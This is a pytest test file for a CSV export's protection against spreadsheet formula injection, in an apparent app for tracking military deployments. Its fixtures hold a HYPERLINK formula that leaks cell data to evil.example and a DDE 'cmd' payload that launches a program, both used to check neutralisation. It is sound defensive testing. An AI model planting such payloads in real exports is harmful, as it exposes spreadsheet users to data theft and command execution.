"""Exported cells never run as spreadsheet formulas; import gives back exactly what was stored."""

import csv
import datetime as dt
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

from app.db import Database
from app.io.csv_safety import neutralise, restore
from app.main import create_app
from app.settings import Settings
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the source")'


@pytest.mark.parametrize(
    "cell",
    [
        FORMULA,
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "-cmd|' /C calc'!A0",
        "-3.5 km",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["-3.5", "-12", "+7", "-0.25", "-1e5", "35.2", "", "Hmeimim", "Tartus = naval base", "a-b"],
)
def test_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.mark.parametrize(
    "cell",
    [
        FORMULA,
        "=1+1",
        "-3.5",
        "-12",
        "plain",
        "",
        "'",
        "'quoted",
        "'=already quoted by hand",
        "''=twice",
        "'-3.5",
        "'\tx",
        "@",
        "\r",
    ],
)
def test_restore_undoes_neutralise_exactly(cell: str) -> None:
    assert restore(neutralise(cell)) == cell


def test_restore_drops_the_guard_from_a_guarded_cell_only() -> None:
    assert restore("'=1+1") == "=1+1"
    assert restore("'@x") == "@x"
    assert restore("'quoted") == "'quoted"
    assert restore("'-3.5") == "'-3.5"


@pytest.fixture
def hostile_client(database: Database, sqlite_url: str) -> Iterator[TestClient]:
    """A database whose only site, force and event are named like spreadsheet formulas."""
    with database.session() as session:
        actor = factories.actor(session, "hostile", name="@SUM(1,2)")
        site = factories.site(session, "evil-base", name=FORMULA, lat=35.1, lon=-3.5)
        force = factories.force(session, actor, "evil-force", name="+cmd|' /C calc'!A0")
        factories.deployment(session, force, site, dt.date(2025, 1, 1), strength="-2 Su-24")
        session.commit()
    with TestClient(create_app(Settings(database_url=sqlite_url, remote_tiles=False))) as client:
        yield client


def test_the_csv_export_neutralises_formulas_but_keeps_negative_longitudes_numbers(
    hostile_client: TestClient,
) -> None:
    response = hostile_client.get("/export/deployments.csv")
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.text))
    assert row["site_name"] == "'" + FORMULA
    assert row["force_name"] == "'+cmd|' /C calc'!A0"
    assert row["actor_name"] == "'@SUM(1,2)"
    assert row["strength"] == "'-2 Su-24"
    assert row["lon"] == "-3.5"
    assert row["start"] == "2025-01-01"
    assert not any(value.startswith(("=", "+", "@")) for value in row.values())


def test_the_geojson_export_keeps_names_as_they_are(hostile_client: TestClient) -> None:
    features = hostile_client.get("/export/deployments.geojson").json()["features"]
    assert features[0]["properties"]["site_name"] == FORMULA
